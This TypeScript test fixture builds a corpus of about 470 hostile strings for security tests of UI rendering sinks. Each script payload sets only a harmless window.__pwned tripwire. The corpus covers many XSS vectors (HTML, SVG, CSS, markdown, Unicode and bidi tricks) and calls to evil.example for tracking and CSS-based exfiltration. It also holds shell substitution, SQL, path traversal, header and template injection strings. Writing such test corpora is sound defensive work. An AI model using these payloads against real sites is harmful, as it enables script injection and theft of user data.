/**
 * Hostile strings for the sinks that render text from a service or a plugin (issue 20 point 3): footer markdown,
 * banners, announcements, help pages, search results, plugin titles and toasts, tenancy and user names. Every payload
 * that could run script sets the tripwire `window.__pwned` (PWNED), so a test can tell an execution from a blocked
 * attempt; the CSP listener tells the blocked attempts (src/security/hostile-sinks.browser.test.ts).
 *
 * The corpus is data only: no DOM, no imports, usable by vitest and web-test-runner alike.
 */

/** One hostile string: a family and a short name for failure messages, and the text itself. */
export interface HostileString {
  family: HostileFamily;
  name: string;
  text: string;
}

/** What the string attacks. */
export type HostileFamily =
  'html' | 'breakout' | 'markdown' | 'svg' | 'css' | 'bidi' | 'invisible' | 'unicode' | 'template' | 'huge' | 'nested';

/** The statement every payload runs; the tripwire a test checks. */
export const PWNED = 'window.__pwned=1';

/** The name of the tripwire on `window`. */
export const PWNED_GLOBAL = '__pwned';

const P = PWNED;
const P_ENTITIES = [...P].map(char => `&#${char.charCodeAt(0)};`).join('');
const P_HEX = [...P].map(char => `\\x${char.charCodeAt(0).toString(16)}`).join('');

/** Script-running HTML in many shapes (each runs PWNED if it ever reaches a live document). */
const HTML_VECTORS: readonly [string, string][] = [
  ['script', `<script>${P}</script>`],
  ['script with src data', `<script src="data:text/javascript,${P}"></script>`],
  ['script upper case', `<SCRIPT>${P}</SCRIPT>`],
  ['script split by null', `<scr\u0000ipt>${P}</scr\u0000ipt>`],
  ['nested script tags', `<scr<script>ipt>${P}</scr</script>ipt>`],
  ['double angle', `<<script>${P}//<</script>`],
  ['img onerror', `<img src=x onerror="${P}">`],
  ['img onerror unquoted', `<img src=x onerror=${P}>`],
  ['img onerror entities', `<img src=x onerror="${P_ENTITIES}">`],
  ['img onerror slash', `<img/src=x/onerror=${P}>`],
  ['img onerror backtick', `<img src=\`x\`onerror=${P}>`],
  ['img srcset onerror', `<img srcset=",,,,x" onerror="${P}">`],
  ['img eval src', `<img src="x:${P}" onerror="eval(src.slice(2))">`],
  ['image tag', `<image src=x onerror="${P}">`],
  ['svg onload', `<svg onload="${P}">`],
  ['svg slash onload', `<svg/onload=${P}>`],
  ['body onload', `<body onload="${P}">`],
  ['body onpageshow', `<body onpageshow="${P}">`],
  ['iframe srcdoc', `<iframe srcdoc="<script>parent.${P}</script>"></iframe>`],
  ['iframe javascript src', `<iframe src="javascript:parent.${P}"></iframe>`],
  ['iframe data src', `<iframe src="data:text/html,<script>parent.${P}</script>"></iframe>`],
  ['iframe onload', `<iframe onload="${P}"></iframe>`],
  ['frameset onload', `<frameset onload="${P}">`],
  ['details ontoggle', `<details open ontoggle="${P}"><summary>x</summary></details>`],
  ['input autofocus onfocus', `<input autofocus onfocus="${P}">`],
  ['select autofocus onfocus', `<select autofocus onfocus="${P}"></select>`],
  ['textarea autofocus onfocus', `<textarea autofocus onfocus="${P}"></textarea>`],
  ['div tabindex onfocus', `<div tabindex=1 autofocus onfocusin="${P}">x</div>`],
  ['video source onerror', `<video><source onerror="${P}"></video>`],
  ['video poster onerror', `<video poster=x onerror="${P}"></video>`],
  ['audio onerror', `<audio src=x onerror="${P}"></audio>`],
  ['marquee onstart', `<marquee onstart="${P}">x</marquee>`],
  ['object javascript data', `<object data="javascript:${P}"></object>`],
  ['object data html', `<object data="data:text/html,<script>parent.${P}</script>"></object>`],
  ['embed javascript src', `<embed src="javascript:${P}">`],
  ['embed svg', `<embed src="data:image/svg+xml,<svg onload='parent.${P}'/>">`],
  ['anchor javascript href', `<a href="javascript:${P}">x</a>`],
  ['anchor mixed case', `<a href="JaVaScRiPt:${P}">x</a>`],
  ['anchor tab inside scheme', `<a href="java&#x09;script:${P}">x</a>`],
  ['anchor newline inside scheme', `<a href="java&#x0A;script:${P}">x</a>`],
  ['anchor entity scheme', `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${P}">x</a>`],
  ['anchor colon entity', `<a href="javascript&colon;${P}">x</a>`],
  ['anchor leading spaces', `<a href="   javascript:${P}">x</a>`],
  ['anchor leading control', `<a href="\u0001javascript:${P}">x</a>`],
  ['anchor vbscript', `<a href="vbscript:msgbox(1)">x</a>`],
  ['anchor data html', `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+">x</a>`],
  ['anchor onclick', `<a href="#" onclick="${P}">x</a>`],
  ['anchor onmouseover', `<a onmouseover="${P}">x</a>`],
  ['anchor target name clobber', `<a id="__pwned" name="__pwned" href="https://x.example">x</a>`],
  ['form action javascript', `<form action="javascript:${P}"><button>x</button></form>`],
  ['button formaction', `<form><button formaction="javascript:${P}">x</button></form>`],
  ['form clobbering', `<form id="getElementById"><input name="cookie"></form>`],
  ['math mxss', `<math><mtext><table><mglyph><style><img src=x onerror="${P}">`],
  ['math href', `<math href="javascript:${P}"><mi>x</mi></math>`],
  ['noscript breakout', `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>`],
  ['template script', `<template><script>${P}</script></template>`],
  ['xmp breakout', `<xmp><img src=x onerror="${P}"></xmp>`],
  ['textarea breakout', `</textarea><img src=x onerror="${P}">`],
  ['title breakout', `</title><img src=x onerror="${P}">`],
  ['comment breakout', `<!--><img src=x onerror="${P}">-->`],
  ['cdata breakout', `<![CDATA[><img src=x onerror="${P}">]]>`],
  ['processing instruction', `<?xml-stylesheet href="javascript:${P}"?>`],
  ['base href', `<base href="javascript:/"><a href="x">x</a>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=javascript:${P}">`],
  ['link import', `<link rel="import" href="data:text/html,<script>${P}</script>">`],
  ['isindex', `<isindex type=image src=1 onerror="${P}">`],
  ['table background', `<table background="javascript:${P}"><tr><td>x</td></tr></table>`],
  ['portal', `<portal src="javascript:${P}"></portal>`],
  ['event handler on span', `<span onpointerenter="${P}">x</span>`],
  ['style attribute onanimationstart', `<b style="animation:x 1s" onanimationstart="${P}">x</b>`],
  ['dialog open onclose', `<dialog open onclose="${P}">x</dialog>`],
  ['hex escaped eval', `<img src=x onerror="eval('${P_HEX}')">`],
  ['unicode escaped script', `<img src=x onerror="\\u0077indow.__pwned=1">`],
  ['attribute without quotes', `<p title=x onmouseover=${P}>x</p>`],
  ['broken attribute', `<p title="x"onmouseover="${P}">x</p>`],
  ['custom element', `<x-evil onconnected="${P}"></x-evil>`],
  ['slot breakout', `<slot name="x" onslotchange="${P}"></slot>`],
  ['shadowroot template', `<div><template shadowrootmode="open"><img src=x onerror="${P}"></template></div>`],
  ['popover onbeforetoggle', `<div popover id=p onbeforetoggle="${P}">x</div><button popovertarget=p>x</button>`],
  ['srcdoc entity', `<iframe srcdoc="&lt;img src=x onerror=parent.${P}&gt;"></iframe>`],
];

/** Prefixes that try to leave an attribute, a tag or a text context before the payload. */
const BREAKOUTS: readonly [string, string][] = [
  ['double quote', '">'],
  ['single quote', "'>"],
  ['backtick', '`>'],
  ['closing tag', '</p></span></div>'],
  ['closing script', '</script>'],
  ['closing style', '</style>'],
];

/** Markdown that tries to become a script link, image or raw HTML. */
const MARKDOWN_VECTORS: readonly [string, string][] = [
  ['link javascript', `[click](javascript:${P})`],
  ['link javascript upper', `[click](JAVASCRIPT:${P})`],
  ['link javascript angle', `[click](<javascript:${P}>)`],
  ['link javascript spaced', `[click]( javascript:${P} )`],
  ['link javascript entity colon', `[click](javascript&#58;${P})`],
  ['link javascript encoded', `[click](javascript%3A${P})`],
  ['link javascript newline', `[click](java\nscript:${P})`],
  ['link javascript tab', `[click](java\tscript:${P})`],
  ['link javascript escaped', `[click](javascript\\:${P})`],
  ['link vbscript', '[click](vbscript:msgbox(1))'],
  ['link data html', `[click](data:text/html,<script>${P}</script>)`],
  ['link data base64', '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)'],
  ['link file', '[click](file:///etc/passwd)'],
  ['link title breakout', `[click](https://ok.example "x\\" onmouseover=\\"${P}")`],
  ['link href breakout', `[click](https://ok.example/" onmouseover="${P})`],
  ['link protocol relative', '[click](//evil.example/phish)'],
  ['link backslash', '[click](/\\evil.example/phish)'],
  ['image javascript', `![x](javascript:${P})`],
  ['image data svg', `![x](data:image/svg+xml,<svg onload="${P}"/>)`],
  ['image onerror title', `![x](x "onerror=${P}")`],
  ['image tracking', '![x](https://evil.example/pixel.gif)'],
  ['autolink javascript', `<javascript:${P}>`],
  ['autolink data', `<data:text/html,<script>${P}</script>>`],
  ['reference link javascript', `[click][r]\n\n[r]: javascript:${P}`],
  ['reference image javascript', `![x][r]\n\n[r]: javascript:${P}`],
  ['inline html in emphasis', `**<img src=x onerror="${P}">**`],
  ['html block', `<div>\n\n<img src=x onerror="${P}">\n\n</div>`],
  ['code span with html', `\`<script>${P}</script>\``],
  ['fenced code with html', `\`\`\`html\n<script>${P}</script>\n\`\`\``],
  ['heading with html', `# <img src=x onerror="${P}">`],
  ['table with html', `| a |\n|---|\n| <img src=x onerror="${P}"> |`],
  ['link text with html', `[<img src=x onerror="${P}">](https://ok.example)`],
  ['nested link', `[[click](javascript:${P})](https://ok.example)`],
  ['emphasis breakout', `_x_<svg/onload=${P}>_x_`],
  ['footnote-like', `[^1]\n\n[^1]: <img src=x onerror="${P}">`],
  ['html entity in link', `[click](&#106;avascript:${P})`],
  ['mailto with script', `[mail](mailto:a@b.example?body=<script>${P}</script>)`],
  ['link with null', `[click](java\u0000script:${P})`],
  ['setext heading html', `<script>\n===\n${P}</script>`],
  ['list item html', `- <img src=x onerror="${P}">\n- b`],
];

/** SVG in its many script-running forms. */
const SVG_VECTORS: readonly [string, string][] = [
  ['svg script', `<svg><script>${P}</script></svg>`],
  ['svg script href', `<svg><script href="data:,${P}"/></svg>`],
  ['svg xlink script', `<svg><script xlink:href="data:,${P}"/></svg>`],
  ['svg animate onbegin', `<svg><animate onbegin="${P}" attributeName="x" dur="1s"/></svg>`],
  ['svg set onbegin', `<svg><set onbegin="${P}" attributeName="x" to="1"/></svg>`],
  [
    'svg animate href',
    `<svg><a><animate attributeName="href" values="javascript:${P}"/><text y="20">x</text></a></svg>`,
  ],
  ['svg anchor xlink', `<svg><a xlink:href="javascript:${P}"><text y="20">x</text></a></svg>`],
  ['svg anchor href', `<svg><a href="javascript:${P}"><text y="20">x</text></a></svg>`],
  [
    'svg use data',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${P}'/></svg>#x"/></svg>`,
  ],
  ['svg use external', '<svg><use href="https://evil.example/sprite.svg#x"/></svg>'],
  ['svg foreignObject', `<svg><foreignObject><img src=x onerror="${P}"></foreignObject></svg>`],
  ['svg image onerror', `<svg><image href="x" onerror="${P}"/></svg>`],
  ['svg style', `<svg><style><img src=x onerror="${P}"></style></svg>`],
  ['svg handler on g', `<svg><g onmouseover="${P}"><rect width="9" height="9"/></g></svg>`],
  ['svg feImage', `<svg><filter><feImage href="javascript:${P}"/></filter></svg>`],
  ['svg namespace', `<svg xmlns="http://www.w3.org/2000/svg" onload="${P}"/>`],
  ['svg title breakout', `<svg><title><img src=x onerror="${P}"></title></svg>`],
  ['svg desc mxss', `<svg></p><style><a id="</style><img src=x onerror=${P}>">`],
  ['svg handler entity', `<svg onload="&#119;indow.__pwned=1">`],
  ['svg xml document', `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>${P}</script></svg>`],
];

/** CSS that tries to leave a style context, run script or exfiltrate. */
const CSS_VECTORS: readonly [string, string][] = [
  ['style close', `</style><script>${P}</script>`],
  ['style close img', `</style><img src=x onerror="${P}">`],
  ['style element url', `<style>body{background:url("javascript:${P}")}</style>`],
  ['style import', `<style>@import url("javascript:${P}");</style>`],
  ['style import remote', '<style>@import "https://evil.example/x.css";</style>'],
  ['style expression', `<div style="width:expression(${P})">x</div>`],
  ['style url javascript', `<div style="background:url(javascript:${P})">x</div>`],
  ['style behavior', '<div style="behavior:url(x.htc)">x</div>'],
  ['style moz binding', '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>'],
  ['style overlay', '<div style="position:fixed;inset:0;z-index:99999;background:red">fake login</div>'],
  ['style attribute exfiltration', '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>'],
  ['style in markdown', `Hello <style>*{x:expression(${P})}</style> world`],
  ['css escape in style', `<div style="background:\\75\\72\\6c(javascript:${P})">x</div>`],
  ['link stylesheet javascript', `<link rel="stylesheet" href="javascript:${P}">`],
  ['font face', '<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>'],
  ['bare expression text', `expression(${P})`],
  ['bare url text', `url(javascript:${P})`],
  ['css comment breakout', `/*</style><script>${P}</script>*/`],
];

/** Bidirectional overrides that reorder what the user reads. */
const BIDI_VECTORS: readonly [string, string][] = [
  ['rlo file name', 'invoice\u202Efdp.exe'],
  ['rlo wrapped', '\u202Etnuocca ruoy yfirev\u202C'],
  ['lro', '\u202Dadmin\u202C'],
  ['rle', '\u202Bأدمن\u202C'],
  ['lre', '\u202Aroot\u202C'],
  ['pdf alone', '\u202C\u202C\u202C'],
  ['rli isolate unclosed', '\u2067evil'],
  ['lri isolate unclosed', '\u2066evil'],
  ['fsi isolate unclosed', '\u2068evil'],
  ['pdi alone', '\u2069\u2069'],
  ['rlm lrm', '\u200Fadmin\u200E'],
  ['arabic letter mark', '\u061Croot'],
  ['rlo around markup', `\u202E<img src=x onerror="${P}">\u202C`],
  ['rlo in url', 'https://ok.example/\u202Emoc.live//:sptth'],
  ['mixed rtl ltr', 'مستخدم admin مستخدم'],
  ['hebrew with rlo', 'שלום\u202Eevil\u202Cשלום'],
  ['rlo markdown link', `[\u202Eknil](javascript:${P})`],
  ['many overrides', '\u202E\u202D'.repeat(200)],
];

/** Invisible and control characters. */
const INVISIBLE_VECTORS: readonly [string, string][] = [
  ['zero width space', 'ad\u200Bmin'],
  ['zero width non joiner', 'ad\u200Cmin'],
  ['zero width joiner', 'ad\u200Dmin'],
  ['word joiner', 'ad\u2060min'],
  ['byte order mark', '\uFEFFadmin'],
  ['soft hyphen', 'ad\u00ADmin'],
  ['null', 'ad\u0000min'],
  ['bell and backspace', 'ad\u0007\u0008min'],
  ['escape sequence', '\u001B[31mred\u001B[0m'],
  ['carriage return', 'line\rline'],
  ['crlf injection', 'x\r\nSet-Cookie: a=b'],
  ['line separator', 'line\u2028line'],
  ['paragraph separator', 'line\u2029line'],
  ['vertical tab form feed', 'a\u000B\u000Cb'],
  ['delete', 'a\u007Fb'],
  ['c1 controls', 'a\u0085\u0090\u009Fb'],
  ['lone high surrogate', 'a\uD800b'],
  ['lone low surrogate', 'a\uDFFFb'],
  ['reversed surrogates', 'a\uDC00\uD800b'],
  ['noncharacters', 'a\uFFFE\uFFFFb'],
  ['private use', 'a\uE000\uF8FFb'],
  ['tag characters', 'a\u{E0041}\u{E0042}b'],
  ['variation selectors', 'a\uFE0F\u{E0100}b'],
  ['hangul filler', '\u3164\u115F'],
  ['braille blank', '\u2800\u2800'],
  ['only spaces', ' \u00A0\u2000\u3000 '],
  ['empty', ''],
  ['zero width in script', `<scr\u200Bipt>${P}</scr\u200Bipt>`],
  ['zero width in scheme', `[x](java\u200Bscript:${P})`],
  ['nbsp in scheme', `<a href="javascript\u00A0:${P}">x</a>`],
];

/** Normalisation and look-alike tricks: characters that become markup or scripts only after some folding. */
const UNICODE_VECTORS: readonly [string, string][] = [
  ['fullwidth angle brackets', `\uFF1Cscript\uFF1E${P}\uFF1C/script\uFF1E`],
  ['small form angle brackets', `\uFE64script\uFE65${P}\uFE64/script\uFE65`],
  ['mathematical angle brackets', `\u27E8img src=x onerror=${P}\u27E9`],
  ['fullwidth javascript scheme', `[x](\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:${P})`],
  ['long s script', `<\u017Fcript>${P}</\u017Fcript>`],
  ['dotless i', `<scr\u0131pt>${P}</scr\u0131pt>`],
  ['dotted capital i', '\u0130stanbul'],
  ['kelvin sign', '\u212Aelvin'],
  ['ligature fi', 'of\uFB01ce'],
  ['combining acute', 'a\u0301\u0301\u0301\u0301'],
  ['zalgo', `Z${'\u0336\u0334\u0335\u0337'.repeat(50)}`],
  ['cyrillic homoglyphs', '\u0440\u0430\u0443\u0440\u0430l.com'],
  ['greek question mark', 'a\u037Eb'],
  ['decomposed hangul', '\u1112\u1161\u11AB'],
  ['nfkc superscript', 'x\u00B2\u2074'],
  ['emoji zwj sequence', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'],
  ['flag sequence', '\u{1F1FA}\u{1F1F8}'],
  ['astral plane', '\u{1D54F}\u{1D550}\u{1F600}'],
  ['han and kana', '\u7BA1\u7406\u8005\u30E6\u30FC\u30B6\u30FC'],
  ['thai', '\u0E1C\u0E39\u0E49\u0E14\u0E39\u0E41\u0E25'],
  ['devanagari', '\u092A\u094D\u0930\u0936\u093E\u0938\u0915'],
  ['fullwidth quote breakout', `\uFF02\uFF1E<img src=x onerror=${P}>`],
  ['halfwidth katakana', '\uFF8A\uFF9F\uFF7D\uFF9C\uFF70\uFF84\uFF9E'],
  ['upside down text', '\u0250p\u026F\u0131u'],
  ['percent encoded script', `%3Cscript%3E${P}%3C/script%3E`],
  ['double percent encoded', `%253Cscript%253E${P}%253C/script%253E`],
  ['html entities script', `&lt;script&gt;${P}&lt;/script&gt;`],
  ['numeric entities script', `&#60;script&#62;${P}&#60;/script&#62;`],
  ['utf7 script', `+ADw-script+AD4-${P}+ADw-/script+AD4-`],
  ['overlong utf8 text', '\u00C0\u00BCscript\u00C0\u00BE'],
];

/** Placeholder and template syntaxes that could break message formatting or a template engine. */
const TEMPLATE_VECTORS: readonly [string, string][] = [
  ['template literal', `\${${P}}`],
  ['template literal constructor', "${constructor.constructor('window.__pwned=1')()}"],
  ['mustache', '{{constructor.constructor("window.__pwned=1")()}}'],
  ['angular expression', "{{$on.constructor('window.__pwned=1')()}}"],
  ['vue expression', "{{_c.constructor('window.__pwned=1')()}}"],
  ['icu argument', '{name}'],
  ['icu numbered argument', '{0} {1}'],
  ['icu plural', '{count, plural, one {# item} other {# items}}'],
  ['icu select', '{gender, select, male {he} female {she} other {they}}'],
  ['icu nested', '{a, plural, other {{b, select, other {{c}}}}}'],
  ['icu unbalanced open', '{{{{'],
  ['icu unbalanced close', '}}}}'],
  ['icu quote', "'{' '}' ''"],
  ['icu hash', '# ## ###'],
  ['icu number skeleton', '{n, number, ::currency/USD}'],
  ['icu tag', '<0>bold</0> <b>x</b>'],
  ['printf', '%s %d %n %x %%'],
  ['erb', `<%= ${P} %>`],
  ['jinja', "{% raw %}{{ ''.__class__ }}{% endraw %}"],
  ['ruby interpolation', `#{${P}}`],
  ['shell substitution', `$(touch /tmp/x) \`id\``],
  ['prototype keys', '__proto__ constructor prototype'],
  ['json breakout', `"}, "__proto__": {"polluted": true}, "x": {"`],
  ['lit marker', '<?lit$1234$>{{lit-part}}'],
  ['react element shape', '{"$$typeof":"react.element","type":"img","props":{"src":"x","onError":"1"}}'],
  ['sql', "'; DROP TABLE users; --"],
  ['path traversal', '../../../../etc/passwd'],
  ['header injection', 'x\nLocation: https://evil.example'],
  ['very long word', 'a'.repeat(5000)],
  ['many lines', 'line\n'.repeat(2000)],
];

/** Large inputs: a megabyte of text, markup and markdown. */
const HUGE_VECTORS: readonly [string, string][] = [
  ['one megabyte of text', 'A'.repeat(1_000_000)],
  ['one megabyte of markup', '<b>x</b>'.repeat(125_000)],
  ['one megabyte of links', `[x](javascript:${P}) `.repeat(40_000).slice(0, 1_000_000)],
  ['one megabyte of handlers', `<img src=x onerror="${P}">`.repeat(30_000).slice(0, 1_000_000)],
];

/** Deep nesting: ten thousand levels of markup and markdown. */
const NESTED_VECTORS: readonly [string, string][] = [
  ['ten thousand divs', `${'<div>'.repeat(10_000)}<img src=x onerror="${P}">${'</div>'.repeat(10_000)}`],
  ['ten thousand unclosed bolds', `${'<b>'.repeat(10_000)}<img src=x onerror="${P}">`],
  ['ten thousand spans', `${'<span>'.repeat(10_000)}x${'</span>'.repeat(10_000)}`],
  ['ten thousand lists', `${'<ul><li>'.repeat(10_000)}x`],
  ['ten thousand tables', `${'<table><tr><td>'.repeat(10_000)}x`],
  ['ten thousand svgs', `${'<svg>'.repeat(10_000)}<script>${P}</script>`],
  ['ten thousand blockquotes', `${'> '.repeat(10_000)}x`],
  ['ten thousand brackets', `${'['.repeat(10_000)}x${'](javascript:window.__pwned=1)'.repeat(100)}`],
  ['ten thousand emphasis', `${'*'.repeat(10_000)}x${'*'.repeat(10_000)}`],
  ['ten thousand backticks', '`'.repeat(10_000)],
  ['ten thousand list markers', `${'- '.repeat(10_000)}x`],
  ['ten thousand parens', `[x](${'('.repeat(10_000)}javascript:${P}${')'.repeat(10_000)})`],
];

function family(name: HostileFamily, vectors: readonly [string, string][]): HostileString[] {
  return vectors.map(([vectorName, text]) => ({ family: name, name: vectorName, text }));
}

/** The payloads of one context, prefixed by every way out of an attribute, tag or raw-text element. */
function breakouts(): HostileString[] {
  const payloads = HTML_VECTORS.slice(0, 30);
  return BREAKOUTS.flatMap(([prefixName, prefix]) =>
    payloads.map(([name, text]) => ({
      family: 'breakout' as const,
      name: `${prefixName} + ${name}`,
      text: `${prefix}${text}`,
    }))
  );
}

/**
 * The whole corpus (some 470 strings): HTML, breakouts, markdown, SVG, CSS, bidi, invisible and control characters,
 * Unicode tricks, template and ICU syntax, 1 MB strings and 10 000-level nesting.
 */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  ...family('html', HTML_VECTORS),
  ...breakouts(),
  ...family('markdown', MARKDOWN_VECTORS),
  ...family('svg', SVG_VECTORS),
  ...family('css', CSS_VECTORS),
  ...family('bidi', BIDI_VECTORS),
  ...family('invisible', INVISIBLE_VECTORS),
  ...family('unicode', UNICODE_VECTORS),
  ...family('template', TEMPLATE_VECTORS),
  ...family('huge', HUGE_VECTORS),
  ...family('nested', NESTED_VECTORS),
];

/** The corpus without the megabyte and ten-thousand-level strings, for sinks rendered one string at a time. */
export const HOSTILE_STRINGS_SMALL: readonly HostileString[] = HOSTILE_STRINGS.filter(
  entry => entry.family !== 'huge' && entry.family !== 'nested'
);
